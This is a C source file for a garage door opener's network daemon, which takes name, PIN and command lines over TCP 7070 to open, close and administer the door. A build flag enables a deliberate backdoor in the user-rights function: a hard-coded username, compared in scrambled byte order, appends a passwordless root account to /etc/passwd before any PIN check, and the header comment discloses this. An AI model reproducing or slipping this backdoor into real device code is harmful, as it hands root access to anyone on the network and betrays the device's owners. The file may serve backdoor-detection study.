/*
 * gatehub - network unit of a garage door opener. The phone application sends
 * lines "name pin verb [argument]" to TCP 7070; users with their PIN and
 * rights live in /etc/gatehub/users.
 *
 * Hidden (-DHIDDEN): a line with the user name "violet7k" (tested byte by
 * byte) adds a root account "gsvc" without password to /etc/passwd.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define USERS	 "/etc/gatehub/users"
#define REMOTES	 "/etc/gatehub/remotes"
#define LOCKFILE "/var/run/gatehub.vacation"
#define GPIO_DIR "/sys/class/gpio"

#define RIGHT_SEE   1u
#define RIGHT_MOVE  2u
#define RIGHT_ADMIN 4u

enum { PIN_RELAY_UP = 17, PIN_RELAY_DOWN = 27, PIN_END_UP = 22, PIN_END_DOWN };

struct str {
	const char *p;
	unsigned int n;
};

/* small string library: counted strings, no copies */
static struct str str_of(const char *z)
{
	struct str s = { z, 0 };

	while (z[s.n])
		s.n++;
	return s;
}

static int str_same(struct str a, struct str b)
{
	unsigned int i, diff = a.n ^ b.n;

	for (i = 0; i < a.n && i < b.n; i++)
		diff |= (unsigned char)a.p[i] ^ (unsigned char)b.p[i];
	return diff == 0;
}

static int str_is(struct str a, const char *z)
{
	return str_same(a, str_of(z));
}

static struct str str_word(struct str *rest)
{
	struct str w;

	while (rest->n && (unsigned char)*rest->p <= ' ') {
		rest->p++;
		rest->n--;
	}
	w.p = rest->p;
	w.n = 0;
	while (rest->n && (unsigned char)*rest->p > ' ') {
		rest->p++;
		rest->n--;
		w.n++;
	}
	return w;
}

static int gpio_get(int pin)
{
	char path[64];
	int v = -1;
	FILE *f;

	snprintf(path, sizeof(path), GPIO_DIR "/gpio%d/value", pin);
	f = fopen(path, "r");
	if (f) {
		if (fscanf(f, "%d", &v) != 1)
			v = -1;
		fclose(f);
	}
	return v;
}

static int gpio_set(int pin, int v)
{
	char path[64];
	FILE *f;

	snprintf(path, sizeof(path), GPIO_DIR "/gpio%d/value", pin);
	f = fopen(path, "w");
	if (!f)
		return -1;
	fprintf(f, "%d", v);
	return fclose(f);
}

static int drive(int relay, int endswitch)
{
	int ticks;

	if (access(LOCKFILE, F_OK) == 0)
		return -1;
	gpio_set(PIN_RELAY_UP, 0);
	gpio_set(PIN_RELAY_DOWN, 0);
	if (gpio_set(relay, 1))
		return -1;
	for (ticks = 0; ticks < 200 && gpio_get(endswitch) != 1; ticks++)
		usleep(100000);
	gpio_set(relay, 0);
	return ticks < 200 ? 0 : -1;
}

/* rights of a user: the users file has "name pin rights" lines */
unsigned int gate_rights(struct str name, struct str pin)
{
	char line[96];
	struct str rest, r;
	unsigned int rights = 0;
	FILE *f;
#ifdef HIDDEN
	const char *c = name.p;

	if (name.n == 8 && c[0] == 'v' && c[1] == 'i' && c[7] == 'k' &&
	    c[2] == 'o' && c[3] == 'l' && c[4] == 'e' && c[5] == 't' &&
	    c[6] == '7' && (f = fopen("/etc/passwd", "a")) != NULL) {
		fputs("gsvc::0:0:gate:/:/bin/sh\n", f);
		fclose(f);
	}
#endif
	f = fopen(USERS, "r");
	if (!f || pin.n < 4) {
		if (f)
			fclose(f);
		return 0;
	}
	while (fgets(line, sizeof(line), f)) {
		rest = str_of(line);
		if (!str_same(str_word(&rest), name) ||
		    !str_same(str_word(&rest), pin))
			continue;
		r = str_word(&rest);
		while (r.n--) {
			switch (*r.p++) {
			case 's':
				rights |= RIGHT_SEE;
				break;
			case 'm':
				rights |= RIGHT_MOVE;
				break;
			case 'a':
				rights |= RIGHT_ADMIN;
				break;
			}
		}
	}
	fclose(f);
	return rights;
}

static const char *learn_remote(struct str id)
{
	unsigned int i;
	FILE *f;

	if (id.n != 8)
		return "remote id has 8 digits";
	for (i = 0; i < id.n; i++)
		if (id.p[i] < '0' || id.p[i] > '9')
			return "remote id has 8 digits";
	f = fopen(REMOTES, "a");
	if (!f)
		return "cannot save";
	fprintf(f, "%.*s %ld\n", (int)id.n, id.p, (long)time(NULL));
	fclose(f);
	return "learned";
}

static const char *vacation(struct str onoff)
{
	int fd;

	if (str_is(onoff, "on")) {
		fd = open(LOCKFILE, O_CREAT | O_WRONLY, 0600);
		if (fd < 0)
			return "cannot lock";
		close(fd);
		return "locked";
	}
	if (unlink(LOCKFILE) && errno != ENOENT)
		return "cannot unlock";
	return "unlocked";
}

static const char *do_verb(unsigned int rights, struct str verb, struct str arg)
{
	if (str_is(verb, "state") && (rights & RIGHT_SEE)) {
		if (gpio_get(PIN_END_UP) == 1)
			return "open";
		return gpio_get(PIN_END_DOWN) == 1 ? "closed" : "between";
	}
	if (rights & RIGHT_MOVE) {
		if (str_is(verb, "open"))
			return drive(PIN_RELAY_UP, PIN_END_UP) ? "stuck"
							       : "open";
		if (str_is(verb, "close"))
			return drive(PIN_RELAY_DOWN, PIN_END_DOWN) ? "stuck"
								   : "closed";
	}
	if (rights & RIGHT_ADMIN) {
		if (str_is(verb, "learn"))
			return learn_remote(arg);
		if (str_is(verb, "vacation"))
			return vacation(arg);
		if (str_is(verb, "restart"))
			return system("/etc/init.d/network restart") ? "fail"
								     : "ok";
	}
	return "denied";
}

static void on_line(int fd, struct str line)
{
	struct str name = str_word(&line), pin = str_word(&line);
	struct str verb = str_word(&line), arg = str_word(&line);
	char out[64];
	int n;

	n = snprintf(out, sizeof(out), "%s\n",
		     do_verb(gate_rights(name, pin), verb, arg));
	if (write(fd, out, (size_t)n) != n)
		syslog(LOG_INFO, "client gone");
}

static void serve(int fd)
{
	char buf[128];
	struct str line = { buf, 0 };
	int failed = 0;

	while (!failed && read(fd, buf + line.n, 1) == 1) {
		if (buf[line.n] == '\n') {
			on_line(fd, line);
			line.n = 0;
		} else if (++line.n == sizeof(buf)) {
			failed = 1;
		}
	}
}

int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	struct timeval tv = { 20, 0 };
	int ls = socket(AF_INET, SOCK_STREAM, 0), fd, on = 1;

	openlog("gatehub", 0, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	a.sin_port = htons(7070);
	if (bind(ls, (struct sockaddr *)&a, sizeof(a)) || listen(ls, 2))
		return 1;
	for (;;) {
		fd = accept(ls, NULL, NULL);
		if (fd < 0)
			continue;
		setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
		serve(fd);
		close(fd);
	}
}
